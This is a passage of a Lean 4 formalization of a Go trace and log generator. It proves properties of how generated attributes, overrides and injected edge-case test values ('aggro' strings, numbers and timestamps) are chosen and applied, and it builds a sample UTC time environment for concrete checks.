    (word : Nat → GoString) : List (KeyValue α) :=
  (List.range numAttributes.toNat).map (fun (j : Nat) =>
    let key := lit "fake.attr." ++ FormatInt (Int.ofNat j + 1)
    let value :=
      match mapGet overrides key with
      | some override => override
      | none => word j
    attributeString key value)

/-- The loop "Apply any remaining overrides that didn't match generated keys": an
override is appended when its key does not start with "fake.attr.". -/
def remainingOverrides {α : Type} (overrides : OverrideMap) : List (KeyValue α) :=
  (overrides.filter (fun kv => !HasPrefix kv.1 (lit "fake.attr."))).map
    (fun kv => attributeString kv.1 kv.2)

/-- The attribute list that `GenerateTracesWithProvider` builds for a span,
before the aggro modifications: the base attribute "http.method", the
generated attributes, the remaining overrides. -/
def spanAttributes {α : Type} (numAttributes : Int) (overrideAttrs : List GoString)
    (word : Nat → GoString) : List (KeyValue α) :=
  let overrides := parseOverrides [] overrideAttrs
  [attributeString (lit "http.method") (lit "GET")] ++
    generatedAttributes numAttributes overrides word ++ remainingOverrides overrides

/-- The attribute list that `GenerateLogsWithProvider` builds for a log record,
before the aggro modifications. -/
def logAttributes {α : Type} (numAttributes : Int) (overrideAttrs : List GoString)
    (word : Nat → GoString) : List (KeyValue α) :=
  let overrides := parseOverrides [] overrideAttrs
  [otellogString (lit "log.level") (lit "info")] ++
    generatedAttributes numAttributes overrides word ++ remainingOverrides overrides

/-- A log record as `GenerateLogsWithProvider` builds it: the body it sets with
`SetBody` and the attributes it passes, in this order, to `AddAttributes`. What
the log SDK makes of the attributes (it keeps one attribute per key) is outside
the embedding. -/
structure LogRecord (α : Type) where
  Body : GoString
  Attributes : List (KeyValue α)
  deriving DecidableEq, Repr

/-- The loop of `GenerateLogsWithProvider`, from record `i` on for `count` more
records: the message "example-log-<i+1>", the attributes, the aggro
modifications with the skip list "log.level" and the protocol argument "grpc",
the metadata appended to the attributes. `word i j` is the result of
`faker.Word()` for attribute `j` of record `i`. -/
def emitLogRecords {T α : Type} (env : Env T) (numAttributes : Int)
    (overrideAttrs : List GoString) (aggroConfig : AggroConfig)
    (word : Nat → Nat → GoString) : Nat → Nat → Rng → List (LogRecord α) × Rng
  | 0, _, g => ([], g)
  | count + 1, i, g =>
    let logMessage := lit "example-log-" ++ FormatInt (Int.ofNat i + 1)
    let attrs : List (KeyValue α) := logAttributes numAttributes overrideAttrs (word i)
    let skipKeys := [lit "log.level"]
    let r := ApplyAggroToLogAttributes env aggroConfig attrs logMessage skipKeys (lit "grpc") g
    let rest := emitLogRecords env numAttributes overrideAttrs aggroConfig word count (i + 1) r.rng
    (⟨r.message, r.attrs ++ r.metadata⟩ :: rest.1, rest.2)

/-- The function `GenerateLogsWithProvider`: the records it builds and emits, for
an environment in which the timestamp corpus can be built. -/
def GenerateLogsWithProvider {T α : Type} (env : Env T) (numLogs numAttributes : Int)
    (overrideAttrs : List GoString) (aggroConfig : AggroConfig)
    (word : Nat → Nat → GoString) (g : Rng) : List (LogRecord α) × Rng :=
  emitLogRecords env numAttributes overrideAttrs aggroConfig word numLogs.toNat 0 g

/-- The function `GenerateLogs`: the records it builds and emits. The
configuration is the result of `ParseAggroConfig("logs")`. The protocol of the exporter goes into
the exporter configuration, which is outside the embedding, and nowhere
else. -/
def GenerateLogs {T α : Type} (env : Env T) (aggroConfig : AggroConfig)
    (numLogs numAttributes : Int) (overrideAttrs : List GoString) (otlpProtocol : GoString)
    (word : Nat → Nat → GoString) (g : Rng) : List (LogRecord α) × Rng :=
  let _exporterConfigProtocol := otlpProtocol
  GenerateLogsWithProvider env numLogs numAttributes overrideAttrs aggroConfig word g

/-- The words that stand in for the results of `faker.Word()` where a statement
is checked on a concrete input. -/
def sampleWord (j : Nat) : GoString := lit "word" ++ FormatInt (Int.ofNat j)

/-! ## A concrete environment

An environment on which the definitions can be evaluated: an embedded file of
four lines, a stand-in for `strconv.FormatFloat`, and a `time` package for a
machine in UTC. It is used where a statement is checked on a concrete input;
every general theorem holds for all environments. -/

/-- A time value of the sample environment: Unix seconds, nanoseconds within
the second, and the offset of its zone in seconds east of UTC. -/
structure SampleTime where
  sec : Int
  nsec : Int
  offset : Int
  deriving DecidableEq, Repr

/-- The number of days from 1970-01-01 to a date of the proleptic Gregorian
calendar. -/
def daysFromCivil (y m d : Int) : Int :=
  let y1 := if m ≤ 2 then y - 1 else y
  let era := y1 / 400
  let yoe := y1 - era * 400
  let doy := (153 * (if m > 2 then m - 3 else m + 9) + 2) / 5 + d - 1
  let doe := yoe * 365 + yoe / 4 - yoe / 100 + doy
  era * 146097 + doe - 719468

/-- The date (year, month, day) that lies a number of days after 1970-01-01. -/
def civilFromDays (days : Int) : Int × Int × Int :=
  let z := days + 719468
  let era := z / 146097
  let doe := z - era * 146097
  let yoe := (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365
  let doy := doe - (365 * yoe + yoe / 4 - yoe / 100)
  let mp := (5 * doy + 2) / 153
  let d := doy - (153 * mp + 2) / 5 + 1
  let m := if mp < 10 then mp + 3 else mp - 9
  (if m ≤ 2 then yoe + era * 400 + 1 else yoe + era * 400, m, d)

/-- A number in decimal, padded with zeros on the left to a width. -/
def padded (width : Nat) (v : Int) : GoString :=
  let ds := FormatInt v
  List.replicate (width - ds.length) 48 ++ ds

/-- The standard offset of the zones that the timestamp corpus loads. -/
def sampleOffset : Loc → Int
  | .UTC => 0
  | .loaded name =>
    if name = lit "America/New_York" then -18000
    else if name = lit "America/Los_Angeles" then -28800
    else if name = lit "Asia/Tokyo" then 32400
    else 0

/-- The RFC 3339 form of a time of the sample environment. -/
def sampleFormat (t : SampleTime) : GoString :=
  let loc := t.sec + t.offset
  let date := civilFromDays (loc / 86400)
  let rem := loc % 86400
  let zone :=
    if t.offset = 0 then lit "Z"
    else
      (if t.offset < 0 then lit "-" else lit "+") ++
        padded 2 (Int.natAbs t.offset / 3600) ++ lit ":" ++
        padded 2 (Int.natAbs t.offset % 3600 / 60)
  padded 4 date.1 ++ lit "-" ++ padded 2 date.2.1 ++ lit "-" ++ padded 2 date.2.2 ++ lit "T" ++
    padded 2 (rem / 3600) ++ lit ":" ++ padded 2 (rem % 3600 / 60) ++ lit ":" ++
    padded 2 (rem % 60) ++ zone

/-- The `time` package of the sample environment: a machine whose local zone is
UTC, whose clock reads 2023-11-14T22:13:20.000000005Z, and on which the three
zones that the corpus loads have their standard offsets (every date the corpus
builds in them lies in January). -/
def sampleTimeLib : TimeLib SampleTime where
  Now := ⟨1700000000, 5, 0⟩
  Zero := ⟨-62135596800, 0, 0⟩
  Unix := fun sec nsec => ⟨sec + nsec / 1000000000, nsec % 1000000000, 0⟩
  Date := fun y m d h mi s ns loc =>
    ⟨daysFromCivil y m d * 86400 + h * 3600 + mi * 60 + s - sampleOffset loc +
      ns / 1000000000, ns % 1000000000, sampleOffset loc⟩
  Add := fun t d => ⟨t.sec + (t.nsec + d) / 1000000000, (t.nsec + d) % 1000000000, t.offset⟩
  Truncate := fun t d =>
    if d ≤ 0 then t
    else
      let total := (t.sec + 62135596800) * 1000000000 + t.nsec
      let kept := total - total % d
      ⟨kept / 1000000000 - 62135596800, kept % 1000000000, t.offset⟩
  FormatRFC3339 := sampleFormat
  ToUnix := fun t => t.sec
  LoadLocationOK := fun _ => true

/-- The sample environment. -/
def sampleEnv : Env SampleTime where
  naughtyStrings := lit "# comment\n  Δx \n\nabc"
  FormatFloat := fun bits bitSize => lit "f" ++ FormatInt bitSize ++ lit "_" ++ FormatInt bits
  time := sampleTimeLib

/-- A random source whose every draw is `n`. -/
def constRng (n : Nat) : Rng := ⟨fun _ => n, 0⟩

/-- A random source whose draws are the entries of a list, then 0. -/
def listRng (l : List Nat) : Rng := ⟨fun i => l.getD i 0, 0⟩

/-- The trace attributes of the end-to-end scenario of the specification. -/
def sampleAttrs : List (KeyValue Unit) :=
  [⟨lit "http.method", Value.string (lit "GET")⟩,
   ⟨lit "fake.attr.1", Value.string (lit "x")⟩,
   ⟨lit "fake.attr.2", Value.string (lit "y")⟩]

/-- The log attributes of the end-to-end scenario of the specification. -/
def sampleLogAttrs : List (KeyValue Unit) := [⟨lit "log.level", Value.string (lit "info")⟩]

/-- The configuration in which one category is active, with the given target. -/
def configOnly (c : Category) (target : GoString) : AggroConfig :=
  match c with
  | .string => ⟨[], [], target, false, false, true⟩
  | .numeric => ⟨[], target, [], false, true, false⟩
  | .timestamp => ⟨target, [], [], true, false, false⟩

/-- The configuration in which the three categories are active with random
targeting. -/
def configAllRandom : AggroConfig := ⟨[], [], [], true, true, true⟩

/-! ## Lemmas: random choice -/

theorem RandomChoice_mem (things : List GoString) (g : Rng) (h : things ≠ []) :
    (RandomChoice things g).1 ∈ things := by
  have hpos : 0 < things.length := List.length_pos.mpr h
  have hlt : (GetRandom g).1 % things.length < things.length := Nat.mod_lt _ hpos
  have hn : ¬ things.length < 1 := by omega
  simp only [RandomChoice, hn, if_false]
  rw [List.getD_eq_getElem _ _ hlt]
  exact List.getElem_mem _

theorem RandomChoice_singleton (x : GoString) (g : Rng) : (RandomChoice [x] g).1 = x := by
  have h := RandomChoice_mem [x] g (by simp)
  simpa using h

/-! ## Lemmas: keys and the skip list -/

theorem shouldSkip_iff (key : GoString) (skipKeys : List GoString) :
    shouldSkip key skipKeys = true ↔ key ∈ skipKeys := by
  induction skipKeys with
  | nil => simp [shouldSkip]
  | cons k rest ih =>
    by_cases h : key = k
    · simp [shouldSkip, h]
    · simp [shouldSkip, h, ih]

theorem foundIn_iff (target : GoString) (keys : List GoString) :
    foundIn target keys = true ↔ target ∈ keys := by
  induction keys with
  | nil => simp [foundIn]
  | cons k rest ih =>
    by_cases h : k = target
    · simp [foundIn, h]
    · have h2 : ¬ target = k := fun e => h e.symm
      simp [foundIn, h, h2, ih]

theorem availableTraceKeys_eq {α : Type} (attrs : List (KeyValue α)) (skipKeys : List GoString) :
    availableTraceKeys attrs skipKeys = (keysOf attrs).filter (fun k => decide (k ∉ skipKeys)) := by
  induction attrs with
  | nil => simp [availableTraceKeys, keysOf]
  | cons a rest ih =>
    by_cases h : a.Key ∈ skipKeys
    · have hs := (shouldSkip_iff a.Key skipKeys).mpr h
      simp [availableTraceKeys, hs, keysOf, h] at ih ⊢
      exact ih
    · have hs : shouldSkip a.Key skipKeys = false := by
        cases hb : shouldSkip a.Key skipKeys with
        | false => rfl
        | true => exact absurd ((shouldSkip_iff _ _).mp hb) h
      simp [availableTraceKeys, hs, keysOf, h] at ih ⊢
      exact ih

theorem mem_availableTraceKeys {α : Type} (attrs : List (KeyValue α)) (skipKeys : List GoString)
    (k : GoString) :
    k ∈ availableTraceKeys attrs skipKeys ↔ k ∈ keysOf attrs ∧ k ∉ skipKeys := by
  simp [availableTraceKeys_eq]

theorem appendLogKeys_eq {α : Type} (acc : List GoString) (attrs : List (KeyValue α))
    (skipKeys : List GoString) :
    appendLogKeys acc attrs skipKeys = acc ++ availableTraceKeys attrs skipKeys := by
  induction attrs generalizing acc with
  | nil => simp [appendLogKeys, availableTraceKeys]
  | cons a rest ih =>
    cases hs : shouldSkip a.Key skipKeys with
    | true => simp [appendLogKeys, availableTraceKeys, hs, ih]
    | false => simp [appendLogKeys, availableTraceKeys, hs, ih]

/-! ## Lemmas: replacing a value -/

theorem replaceLogValue_eq {α : Type} (k v : GoString) (attrs : List (KeyValue α)) :
    replaceLogValue k v attrs = replaceTraceValue k v attrs := by
  induction attrs with
  | nil => rfl
  | cons a rest ih =>
    by_cases h : a.Key = k
    · simp [replaceLogValue, replaceTraceValue, h, otellogString, attributeString]
    · simp [replaceLogValue, replaceTraceValue, h, ih]

theorem keysOf_replaceTraceValue {α : Type} (k v : GoString) (attrs : List (KeyValue α)) :
    keysOf (replaceTraceValue k v attrs) = keysOf attrs := by
  induction attrs with
  | nil => rfl
  | cons a rest ih =>
    by_cases h : a.Key = k
    · simp [replaceTraceValue, h, keysOf, attributeString]
    · simp only [keysOf] at ih
      simp [replaceTraceValue, h, keysOf, ih]

/-- Replacing at a key that occurs rewrites the first position that holds the key. -/
theorem replaceTraceValue_eq_set {α : Type} (k v : GoString) (attrs : List (KeyValue α))
    (hk : k ∈ keysOf attrs) :
    ∃ i a, attrs[i]? = some a ∧ a.Key = k ∧
      (∀ j b, j < i → attrs[j]? = some b → b.Key ≠ k) ∧
      replaceTraceValue k v attrs = attrs.set i ⟨k, Value.string v⟩ := by
  induction attrs with
  | nil => simp [keysOf] at hk
  | cons a rest ih =>
    by_cases h : a.Key = k
    · refine ⟨0, a, by simp, h, ?_, ?_⟩
      · intro j b hlt; omega
      · simp [replaceTraceValue, h, attributeString]
    · have hk2 : k ∈ keysOf rest := by
        simp only [keysOf, List.map_cons, List.mem_cons] at hk
        rcases hk with hk | hk
        · exact absurd hk.symm h
        · exact hk
      obtain ⟨i, a', h1, h2, h3, h4⟩ := ih hk2
      refine ⟨i + 1, a', by simpa using h1, h2, ?_, ?_⟩
      · intro j b hlt hb
        cases j with
        | zero =>
          simp at hb
          subst hb
          exact h
        | succ j =>
          simp only [List.getElem?_cons_succ] at hb
          exact h3 j b (by omega) hb
      · simp [replaceTraceValue, h, h4]

theorem replaceTraceValue_not_mem {α : Type} (k v : GoString) (attrs : List (KeyValue α))
    (hk : k ∉ keysOf attrs) : replaceTraceValue k v attrs = attrs := by
  induction attrs with
  | nil => rfl
  | cons a rest ih =>
    simp only [keysOf, List.map_cons, List.mem_cons, not_or] at hk
    have h : ¬ a.Key = k := fun e => hk.1 e.symm
    simp [replaceTraceValue, h, ih (by simpa [keysOf] using hk.2)]

/-- A position that a replacement changes holds the target key. -/
theorem replaceTraceValue_getElem? {α : Type} (k v : GoString) (attrs : List (KeyValue α))
    (i : Nat) (a : KeyValue α) (ha : attrs[i]? = some a) (hne : a.Key ≠ k) :
    (replaceTraceValue k v attrs)[i]? = some a := by
  induction attrs generalizing i with
  | nil => simp at ha
  | cons b rest ih =>
    by_cases h : b.Key = k
    · cases i with
      | zero =>
        simp at ha
        subst ha
        exact absurd h hne
      | succ i => simpa [replaceTraceValue, h] using ha
    · cases i with
      | zero => simpa [replaceTraceValue, h] using ha
      | succ i =>
        simp only [List.getElem?_cons_succ] at ha
        simpa [replaceTraceValue, h] using ih i ha

/-! ## Lemmas: the corpora are never empty -/

theorem appendTimestampValues_eq {T : Type} (env : Env T) (values : List GoString) (l : List T) :
    appendTimestampValues env values l =
      values ++ (l.map (fun ts => [env.time.FormatRFC3339 ts, FormatInt (env.time.ToUnix ts)])).flatten := by
  induction l generalizing values with
  | nil => simp [appendTimestampValues]
  | cons t rest ih => simp [appendTimestampValues, ih]

theorem GetAggroStrings_ne_nil {T : Type} (env : Env T) : GetAggroStrings env ≠ [] := by
  unfold GetAggroStrings advancedStringChaos
  simp

theorem GetAggroNumerics_ne_nil {T : Type} (env : Env T) : GetAggroNumerics env ≠ [] := by
  unfold GetAggroNumerics scientificNotations
  simp

theorem timestampValues_ne_nil {T : Type} (env : Env T) :
    appendTimestampValues env [] (GetAggroTimestamps env) ≠ [] := by
  rw [appendTimestampValues_eq]
  unfold GetAggroTimestamps
  simp

theorem categoryValues_ne_nil {T : Type} (env : Env T) (protocol : GoString) (c : Category) :
    categoryValues env protocol c ≠ [] := by
  cases c with
  | string =>
    by_cases h : protocol = lit "grpc"
    · simp [categoryValues, h, GetAggroStrings_ne_nil]
    · simp [categoryValues, h, GetAggroStrings_ne_nil]
  | numeric => simpa [categoryValues] using GetAggroNumerics_ne_nil env
  | timestamp =>
    have := timestampValues_ne_nil env
    rw [appendTimestampValues_eq] at this
    simpa [categoryValues] using this

/-! ## Lemmas: one call of the private helpers -/

theorem applyAggroToTraceAttributes_spec {α : Type} (attrs : List (KeyValue α))
    (values : List GoString) (target : GoString) (skipKeys : List GoString) (g : Rng)
    (hv : values ≠ []) :
    ∃ k v, (applyAggroToTraceAttributes attrs values target skipKeys g).modified =
        decide (availableTraceKeys attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys attrs skipKeys)) ∧
      (applyAggroToTraceAttributes attrs values target skipKeys g).targetKey =
        (if (applyAggroToTraceAttributes attrs values target skipKeys g).modified then k else []) ∧
      (applyAggroToTraceAttributes attrs values target skipKeys g).attrs =
        (if (applyAggroToTraceAttributes attrs values target skipKeys g).modified then
          replaceTraceValue k v attrs else attrs) ∧
      ((applyAggroToTraceAttributes attrs values target skipKeys g).modified = true →
        k ∈ availableTraceKeys attrs skipKeys ∧ (target ≠ [] → k = target) ∧ v ∈ values) := by
  by_cases hav : availableTraceKeys attrs skipKeys = []
  · refine ⟨[], [], ?_⟩
    simp [applyAggroToTraceAttributes, hav]
  · have hlen : ¬ (availableTraceKeys attrs skipKeys).length = 0 := by
      simpa [List.length_eq_zero] using hav
    by_cases ht : target = []
    · refine ⟨(RandomChoice (availableTraceKeys attrs skipKeys) g).1,
        (RandomChoice values (RandomChoice (availableTraceKeys attrs skipKeys) g).2).1, ?_⟩
      simp [applyAggroToTraceAttributes, hav, ht, RandomChoice_mem _ _ hv,
        RandomChoice_mem _ _ hav]
    · by_cases hf : target ∈ availableTraceKeys attrs skipKeys
      · have hfi := (foundIn_iff target _).mpr hf
        refine ⟨target, (RandomChoice values g).1, ?_⟩
        simp [applyAggroToTraceAttributes, hav, ht, hf, hfi, RandomChoice_mem _ _ hv]
      · have hfi : foundIn target (availableTraceKeys attrs skipKeys) = false := by
          cases hb : foundIn target (availableTraceKeys attrs skipKeys) with
          | false => rfl
          | true => exact absurd ((foundIn_iff _ _).mp hb) hf
        refine ⟨[], [], ?_⟩
        simp [applyAggroToTraceAttributes, hav, ht, hf, hfi]

theorem availableTraceKeys_congr {α : Type} (a b : List (KeyValue α)) (skipKeys : List GoString)
    (h : keysOf a = keysOf b) : availableTraceKeys a skipKeys = availableTraceKeys b skipKeys := by
  rw [availableTraceKeys_eq, availableTraceKeys_eq, h]

/-! ## Lemmas: one category block -/

theorem tracePhase_spec {α : Type} (values : List GoString) (name target : GoString)
    (active : Bool) (skipKeys : List GoString) (s : TraceResult α) (hv : values ≠ []) :
    ∃ k v,
      (decide (active = true ∧ availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) = true →
        k ∈ availableTraceKeys s.attrs skipKeys ∧ (target ≠ [] → k = target) ∧ v ∈ values) ∧
      (tracePhase values name target active skipKeys s).attrs =
        (if decide (active = true ∧ availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) then
          replaceTraceValue k v s.attrs else s.attrs) ∧
      (tracePhase values name target active skipKeys s).metadata =
        s.metadata ++ (if decide (active = true ∧ availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) then
          [attributeString name k] else []) := by
  have hlen : values.length > 0 := List.length_pos.mpr hv
  cases active with
  | false => exact ⟨[], [], by simp [tracePhase]⟩
  | true =>
    obtain ⟨k, v, hm, hk, ha, hmem⟩ :=
      applyAggroToTraceAttributes_spec s.attrs values target skipKeys s.rng hv
    refine ⟨k, v, ?_⟩
    cases hmod : (applyAggroToTraceAttributes s.attrs values target skipKeys s.rng).modified with
    | false =>
      rw [hmod] at hm hk ha
      have hd : ¬ (availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys)) := by
        intro h
        have := decide_eq_true h
        rw [← hm] at this
        exact Bool.false_ne_true this
      simp only [tracePhase, if_true, hlen, hmod, true_and]
      simp only [decide_eq_false hd, Bool.false_eq_true, if_false, false_implies, true_and,
        List.append_nil, and_true]
      simpa using ha
    | true =>
      rw [hmod] at hm hk ha
      have hd : availableTraceKeys s.attrs skipKeys ≠ [] ∧
          (target = [] ∨ target ∈ availableTraceKeys s.attrs skipKeys) :=
        of_decide_eq_true hm.symm
      simp only [tracePhase, if_true, hlen, hmod, true_and]
      simp only [decide_eq_true hd, if_true, true_implies]
      simp only [if_true] at hk ha
      exact ⟨hmem hmod, ha, by rw [hk]⟩

theorem tracePhase_keysOf {α : Type} (values : List GoString) (name target : GoString)
    (active : Bool) (skipKeys : List GoString) (s : TraceResult α) (hv : values ≠ []) :
    keysOf (tracePhase values name target active skipKeys s).attrs = keysOf s.attrs := by
  obtain ⟨k, v, _, ha, _⟩ := tracePhase_spec values name target active skipKeys s hv
  rw [ha]
  split
  · exact keysOf_replaceTraceValue k v s.attrs
  · rfl

/-- The public trace method is its three category blocks in sequence. -/
theorem ApplyAggroToTraceAttributes_eq_phases {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng) :
    ApplyAggroToTraceAttributes env config attrs skipKeys protocol g =
      tracePhase (categoryValues env protocol .timestamp) Category.timestamp.metaKey
        (config.target .timestamp) (config.active .timestamp) skipKeys
        (tracePhase (categoryValues env protocol .numeric) Category.numeric.metaKey
          (config.target .numeric) (config.active .numeric) skipKeys
          (tracePhase (categoryValues env protocol .string) Category.string.metaKey
            (config.target .string) (config.active .string) skipKeys ⟨attrs, [], g⟩)) := by
  have hts : appendTimestampValues env [] (GetAggroTimestamps env) =
      categoryValues env protocol .timestamp := by
    rw [appendTimestampValues_eq]; simp [categoryValues]
  have hstr : (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
      else GetAggroStrings env) = categoryValues env protocol .string := rfl
  have hnum : GetAggroNumerics env = categoryValues env protocol .numeric := rfl
  unfold ApplyAggroToTraceAttributes
  simp only [hts, hstr, hnum]
  cases hS : config.StringActive <;> cases hN : config.NumericActive <;>
    cases hT : config.TimestampActive <;>
    simp [AggroConfig.HasAnyActive, AggroConfig.active, AggroConfig.target, tracePhase, hS, hN, hT,
      Category.metaKey]

/-- What a call of `ApplyAggroToTraceAttributes` does, in one statement: there
are a target `k c` and a value `v c` for every category such that the metadata
lists the targets of the categories that fire, in processing order, and the
attributes are the input with the values of those categories written one after
the other. -/
theorem trace_master {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng) :
    ∃ k v : Category → GoString,
      (∀ c, traceFires config (availableTraceKeys attrs skipKeys) c = true →
        k c ∈ availableTraceKeys attrs skipKeys ∧ (config.target c ≠ [] → k c = config.target c) ∧
        v c ∈ categoryValues env protocol c) ∧
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata =
        (Category.order.filter (traceFires config (availableTraceKeys attrs skipKeys))).map
          (fun c => attributeString c.metaKey (k c)) ∧
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs =
        (Category.order.filter (traceFires config (availableTraceKeys attrs skipKeys))).foldl
          (fun l c => replaceTraceValue (k c) (v c) l) attrs := by
  rw [ApplyAggroToTraceAttributes_eq_phases]
  have hv := categoryValues_ne_nil env protocol
  generalize hs0 : (⟨attrs, [], g⟩ : TraceResult α) = s0
  have h0a : s0.attrs = attrs := by rw [← hs0]
  have h0m : s0.metadata = [] := by rw [← hs0]
  generalize hs1 : tracePhase (categoryValues env protocol .string) Category.string.metaKey
    (config.target .string) (config.active .string) skipKeys s0 = s1
  generalize hs2 : tracePhase (categoryValues env protocol .numeric) Category.numeric.metaKey
    (config.target .numeric) (config.active .numeric) skipKeys s1 = s2
  have hk1 : keysOf s1.attrs = keysOf attrs := by
    rw [← hs1, tracePhase_keysOf _ _ _ _ _ _ (hv _), h0a]
  have hk2 : keysOf s2.attrs = keysOf attrs := by
    rw [← hs2, tracePhase_keysOf _ _ _ _ _ _ (hv _), hk1]
  have hav0 : availableTraceKeys s0.attrs skipKeys = availableTraceKeys attrs skipKeys := by
    rw [h0a]
  have hav1 := availableTraceKeys_congr s1.attrs attrs skipKeys hk1
  have hav2 := availableTraceKeys_congr s2.attrs attrs skipKeys hk2
  obtain ⟨k1, v1, hc1, ha1, hm1⟩ := tracePhase_spec (categoryValues env protocol .string)
    Category.string.metaKey (config.target .string) (config.active .string) skipKeys s0 (hv _)
  obtain ⟨k2, v2, hc2, ha2, hm2⟩ := tracePhase_spec (categoryValues env protocol .numeric)
    Category.numeric.metaKey (config.target .numeric) (config.active .numeric) skipKeys s1 (hv _)
  obtain ⟨k3, v3, hc3, ha3, hm3⟩ := tracePhase_spec (categoryValues env protocol .timestamp)
    Category.timestamp.metaKey (config.target .timestamp) (config.active .timestamp) skipKeys s2
    (hv _)
  rw [hs1] at ha1 hm1
  rw [hs2] at ha2 hm2
  rw [hav0] at hc1 ha1 hm1
  rw [hav1] at hc2 ha2 hm2
  rw [hav2] at hc3 ha3 hm3
  rw [h0a] at ha1
  rw [h0m] at hm1
  have e1 : decide (config.active .string = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
      (config.target .string = [] ∨ config.target .string ∈ availableTraceKeys attrs skipKeys)) =
      traceFires config (availableTraceKeys attrs skipKeys) .string := rfl
  have e2 : decide (config.active .numeric = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
      (config.target .numeric = [] ∨ config.target .numeric ∈ availableTraceKeys attrs skipKeys)) =
      traceFires config (availableTraceKeys attrs skipKeys) .numeric := rfl
  have e3 : decide (config.active .timestamp = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
      (config.target .timestamp = [] ∨
        config.target .timestamp ∈ availableTraceKeys attrs skipKeys)) =
      traceFires config (availableTraceKeys attrs skipKeys) .timestamp := rfl
  rw [e1] at hc1 ha1 hm1
  rw [e2] at hc2 ha2 hm2
  rw [e3] at hc3 ha3 hm3
  refine ⟨fun c => match c with | .string => k1 | .numeric => k2 | .timestamp => k3,
    fun c => match c with | .string => v1 | .numeric => v2 | .timestamp => v3, ?_, ?_, ?_⟩
  · intro c hc
    cases c with
    | string => exact hc1 hc
    | numeric => exact hc2 hc
    | timestamp => exact hc3 hc
  · rw [hm3, hm2, hm1]
    simp only [Category.order, List.filter_cons, List.filter_nil]
    cases traceFires config (availableTraceKeys attrs skipKeys) .string <;>
      cases traceFires config (availableTraceKeys attrs skipKeys) .numeric <;>
      cases traceFires config (availableTraceKeys attrs skipKeys) .timestamp <;>
      simp
  · rw [ha3, ha2, ha1]
    simp only [Category.order, List.filter_cons, List.filter_nil]
    cases traceFires config (availableTraceKeys attrs skipKeys) .string <;>
      cases traceFires config (availableTraceKeys attrs skipKeys) .numeric <;>
      cases traceFires config (availableTraceKeys attrs skipKeys) .timestamp <;>
      simp

/-! ## Lemmas: the log surface -/

theorem logInject_keysOf {α : Type} (k v : GoString) (r : List (KeyValue α) × GoString) :
    keysOf (logInject k v r).1 = keysOf r.1 := by
  unfold logInject
  split
  · rfl
  · rw [replaceLogValue_eq]; exact keysOf_replaceTraceValue k v r.1

theorem applyAggroToLogAttributes_spec {α : Type} (attrs : List (KeyValue α))
    (logMessage : GoString) (values : List GoString) (target : GoString)
    (skipKeys : List GoString) (g : Rng) (hv : values ≠ []) :
    ∃ k v, (applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified =
        decide (target = [] ∨ target ∈ lit "message" :: availableTraceKeys attrs skipKeys) ∧
      (applyAggroToLogAttributes attrs logMessage values target skipKeys g).targetKey =
        (if (applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified
          then k else []) ∧
      ((applyAggroToLogAttributes attrs logMessage values target skipKeys g).attrs,
        (applyAggroToLogAttributes attrs logMessage values target skipKeys g).logMessage) =
        (if (applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified then
          logInject k v (attrs, logMessage) else (attrs, logMessage)) ∧
      ((applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified = true →
        k ∈ lit "message" :: availableTraceKeys attrs skipKeys ∧ (target ≠ [] → k = target) ∧
        v ∈ values) := by
  have hav : appendLogKeys [lit "message"] attrs skipKeys =
      lit "message" :: availableTraceKeys attrs skipKeys := by
    rw [appendLogKeys_eq]; rfl
  have hmsg : ¬ lit "message" = [] := by decide
  have hne : lit "message" :: availableTraceKeys attrs skipKeys ≠ [] := List.cons_ne_nil _ _
  by_cases ht : target = []
  · refine ⟨(RandomChoice (lit "message" :: availableTraceKeys attrs skipKeys) g).1,
      (RandomChoice values (RandomChoice (lit "message" :: availableTraceKeys attrs skipKeys) g).2).1,
      ?_⟩
    have hmem := RandomChoice_mem _ g hne
    simp only [applyAggroToLogAttributes, List.nil_append, hav, ht]
    by_cases hm : (RandomChoice (lit "message" :: availableTraceKeys attrs skipKeys) g).1 =
        lit "message"
    · simp [applyLogValue, logInject, hm, RandomChoice_mem _ _ hv]
    · have hmem2 : (RandomChoice (lit "message" :: availableTraceKeys attrs skipKeys) g).1 ∈
          availableTraceKeys attrs skipKeys := by
        rcases List.mem_cons.mp hmem with h | h
        · exact absurd h hm
        · exact h
      simp [applyLogValue, logInject, hm, RandomChoice_mem _ _ hv, hmem2]
  · by_cases hf : target ∈ lit "message" :: availableTraceKeys attrs skipKeys
    · have hfi := (foundIn_iff target _).mpr hf
      refine ⟨target, (RandomChoice values g).1, ?_⟩
      simp only [applyAggroToLogAttributes, List.nil_append, hav, hfi]
      by_cases hm : target = lit "message"
      · subst hm
        simp [applyLogValue, logInject, hmsg, RandomChoice_mem _ _ hv]
      · have hf2 : target ∈ availableTraceKeys attrs skipKeys := by
          rcases List.mem_cons.mp hf with h | h
          · exact absurd h hm
          · exact h
        simp [applyLogValue, logInject, hm, RandomChoice_mem _ _ hv, hf2, ht]
    · have hfi : foundIn target (lit "message" :: availableTraceKeys attrs skipKeys) = false := by
        cases hb : foundIn target (lit "message" :: availableTraceKeys attrs skipKeys) with
        | false => rfl
        | true => exact absurd ((foundIn_iff _ _).mp hb) hf
      refine ⟨[], [], ?_⟩
      have hf' : ¬ (target = lit "message" ∨ target ∈ availableTraceKeys attrs skipKeys) := by
